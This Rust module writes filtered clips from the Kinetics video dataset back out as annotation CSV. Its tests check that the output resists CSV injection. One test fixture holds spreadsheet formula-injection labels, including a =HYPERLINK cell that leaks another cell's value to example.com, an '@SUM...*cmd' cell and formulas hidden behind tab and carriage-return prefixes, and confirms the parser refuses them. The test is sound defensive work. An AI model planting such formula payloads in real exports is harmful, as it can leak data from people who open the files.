//! Writing clips back out as an official annotation CSV, so a filtered list from the explorer feeds the
//! dataset's downloaders (and [`crate::parse()`]) unchanged.

use crate::error::Error;
use crate::index::{ClassTable, Clip};

/// The clips as a CSV in the official column layout (see [`mod@crate::parse`]):
/// `label,youtube_id,time_start,time_end,split`, with a trailing `is_cc` column when any clip has the
/// Kinetics-400 flag, and without `label` when no clip has one (the unlabelled test layout). Times are
/// seconds, integers where the segment is on whole seconds (as in the official files), else decimals.
/// `file` names the export in the (unexpected) error of the CSV writer.
///
/// No cell can be run as a spreadsheet formula (CSV injection). The label is the only free text, and
/// [`crate::parse()`] and [`crate::asset::decode`] refuse labels that begin like a formula
/// ([`crate::parse::is_formula_like`]), so labels are written unchanged and read back the same. The
/// other cells are numbers (times, `is_cc`), a split name, and the YouTube id: 11 characters from
/// `A-Z a-z 0-9 _ -` ([`crate::YoutubeId`] cannot hold anything else). An id may begin with `-` (the
/// official files have hundreds), which a spreadsheet may read as a formula such as `-A1`, but without
/// `(`, `"`, `&`, `!`, `|` or `:` it can call no function, build no link and reach no other sheet or
/// program; the official files show the same ids the same way.
pub fn to_csv(
    file: &str,
    clips: impl IntoIterator<Item = Clip>,
    table: &ClassTable,
) -> Result<String, Error> {
    let clips: Vec<Clip> = clips.into_iter().collect();
    let labelled = clips.iter().any(|clip| clip.label.is_some());
    let is_cc = clips.iter().any(|clip| clip.is_cc.is_some());
    let failed = |line: usize, e: csv::Error| Error::Csv {
        file: file.to_owned(),
        line: line as u64,
        message: e.to_string(),
    };
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut header = Vec::with_capacity(6);
    if labelled {
        header.push("label");
    }
    header.extend(["youtube_id", "time_start", "time_end", "split"]);
    if is_cc {
        header.push("is_cc");
    }
    writer.write_record(&header).map_err(|e| failed(1, e))?;
    for (i, clip) in clips.iter().enumerate() {
        let mut row: Vec<String> = Vec::with_capacity(header.len());
        if labelled {
            let name = clip.label.and_then(|id| table.name(id)).unwrap_or_default();
            row.push(name.to_owned());
        }
        row.push(clip.youtube_id.as_str().to_owned());
        row.push(seconds(clip.segment.start_ms));
        row.push(seconds(clip.segment.end_ms));
        row.push(clip.split.as_str().to_owned());
        if is_cc {
            row.push(match clip.is_cc {
                Some(true) => "1".to_owned(),
                Some(false) => "0".to_owned(),
                None => String::new(),
            });
        }
        writer.write_record(&row).map_err(|e| failed(i + 2, e))?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| failed(clips.len() + 1, e.into_error().into()))?;
    String::from_utf8(bytes).map_err(|e| Error::Csv {
        file: file.to_owned(),
        line: 0,
        message: e.to_string(),
    })
}

/// Milliseconds as seconds without trailing zeros (`417`, `12.5`, `3.041`).
pub fn seconds(ms: u32) -> String {
    if ms.is_multiple_of(1000) {
        (ms / 1000).to_string()
    } else {
        let text = format!("{:.3}", f64::from(ms) / 1000.0);
        text.trim_end_matches('0').to_owned()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::{parse, Filter, Index, Merge, ReadOptions};

    fn index_of(csv: &str) -> Index {
        let annotations = parse("in.csv", csv.as_bytes(), &ReadOptions::default()).unwrap();
        let mut index = Index::new();
        index.insert(annotations, None, Merge::Extend).unwrap();
        index
    }

    /// Every clip: each class's, then the unlabelled ones.
    fn all_clips(index: &Index) -> Vec<Clip> {
        let filter = Filter::default();
        let mut clips: Vec<Clip> = index
            .classes()
            .iter()
            .flat_map(|(id, _)| index.clips(Some(id), &filter).collect::<Vec<_>>())
            .collect();
        clips.extend(index.clips(None, &filter));
        clips
    }

    #[test]
    fn a_kinetics_400_export_parses_back_to_the_same_clips() {
        let csv = "label,youtube_id,time_start,time_end,split,is_cc\n\
                   abseiling,0wR5jVB-WPk,417,427,val,0\n\
                   \"passing American football (in game)\",3caPS4FHFF8,36.5,46.25,val,1\n";
        let index = index_of(csv);
        let clips = all_clips(&index);
        let text = to_csv("out.csv", clips.clone(), index.classes()).unwrap();
        assert!(
            text.starts_with("label,youtube_id,time_start,time_end,split,is_cc\n"),
            "{text}"
        );
        assert!(
            text.contains("abseiling,0wR5jVB-WPk,417,427,val,0\n"),
            "{text}"
        );
        let back = index_of(&text);
        let again = all_clips(&back);
        assert_eq!(again.len(), clips.len());
        for (a, b) in clips.iter().zip(&again) {
            assert_eq!(
                (a.youtube_id, a.segment, a.split, a.is_cc),
                (b.youtube_id, b.segment, b.split, b.is_cc)
            );
            let name = |index: &Index, clip: &Clip| {
                clip.label
                    .and_then(|id| index.classes().name(id))
                    .map(str::to_owned)
            };
            assert_eq!(name(&index, a), name(&back, b));
        }
    }

    #[test]
    fn kinetics_600_and_test_layouts_keep_their_columns() {
        let k600 = index_of(
            "label,youtube_id,time_start,time_end,split\nabseiling,yq_M1PMw2hY,38,48,val\n",
        );
        let text = to_csv("k600.csv", all_clips(&k600), k600.classes()).unwrap();
        assert_eq!(
            text,
            "label,youtube_id,time_start,time_end,split\nabseiling,yq_M1PMw2hY,38,48,val\n"
        );
        let test = index_of("youtube_id,time_start,time_end,split\nyq_M1PMw2hY,38,48,test\n");
        let text = to_csv("test.csv", all_clips(&test), test.classes()).unwrap();
        assert_eq!(
            text,
            "youtube_id,time_start,time_end,split\nyq_M1PMw2hY,38,48,test\n"
        );
    }

    /// Whether a cell could make a spreadsheet do more than show a value: it begins like a formula and
    /// holds anything beyond the YouTube id alphabet (`-0wR5jVB-WPk` is an id, not a call).
    fn could_run(cell: &str) -> bool {
        crate::parse::is_formula_like(cell)
            && !cell
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
    }

    /// Asserts that no cell of the CSV `text` could run, and that no label (first column, when
    /// `labelled`) begins like a formula at all.
    fn assert_no_formula_cells(text: &str, labelled: bool) {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            if labelled {
                let label = &record[0];
                assert!(
                    !crate::parse::is_formula_like(label),
                    "label cell {label:?} begins like a formula"
                );
            }
            for cell in &record {
                assert!(!could_run(cell), "cell {cell:?} could run as a formula");
            }
        }
    }

    #[test]
    fn an_export_has_no_formula_cells_for_any_clip_that_parsed() {
        let hostile = "label,youtube_id,time_start,time_end,split,is_cc\n\
                       abseiling,0wR5jVB-WPk,417,427,val,0\n\
                       \"=HYPERLINK(\"\"http://example.com/?\"\"&B2,\"\"open\"\")\",3caPS4FHFF8,1,11,val,0\n\
                       @SUM(1+1)*cmd,3caPS4FHFF8,1,11,val,0\n\
                       +1+1,3caPS4FHFF8,1,11,val,1\n\
                       -2+3,3caPS4FHFF8,1,11,val,1\n\
                       \"\t=1+1\",3caPS4FHFF8,1,11,val,1\n\
                       \"\r=1+1\",3caPS4FHFF8,1,11,val,1\n\
                       air drumming,---QUuC4vJs,104,114,val,1\n";
        let annotations = parse("in.csv", hostile.as_bytes(), &ReadOptions::skipping()).unwrap();
        assert_eq!(
            annotations.skipped.rows, 6,
            "every formula-like label refused"
        );
        assert_eq!(annotations.labels, ["abseiling", "air drumming"]);
        let mut index = Index::new();
        index.insert(annotations, None, Merge::Extend).unwrap();
        let text = to_csv("out.csv", all_clips(&index), index.classes()).unwrap();
        assert!(
            text.contains("air drumming,---QUuC4vJs,104,114,val,1\n"),
            "{text}"
        );
        assert_no_formula_cells(&text, true);

        // The real files, whose ids often begin with `-`: every label and id is exported, none can run.
        for name in [
            "kinetics-400_val.csv",
            "kinetics-600_val.csv",
            "kinetics-400_test.csv",
        ] {
            let path = format!(
                "{}/../../../shared/data/kinetics/{name}",
                env!("CARGO_MANIFEST_DIR")
            );
            let annotations =
                parse(name, &std::fs::read(path).unwrap(), &ReadOptions::default()).unwrap();
            let clips = annotations.clips.len();
            let mut index = Index::new();
            index.insert(annotations, None, Merge::Extend).unwrap();
            let text = to_csv(name, all_clips(&index), index.classes()).unwrap();
            assert_eq!(text.lines().count(), clips + 1, "{name}");
            let id_with_dash = text.contains("\n-") || text.contains(",-");
            assert!(id_with_dash, "{name}: some id begins with -");
            assert_no_formula_cells(&text, !name.contains("test"));
        }
    }

    #[test]
    fn seconds_drop_trailing_zeros() {
        assert_eq!(seconds(417_000), "417");
        assert_eq!(seconds(12_500), "12.5");
        assert_eq!(seconds(3_041), "3.041");
    }
}
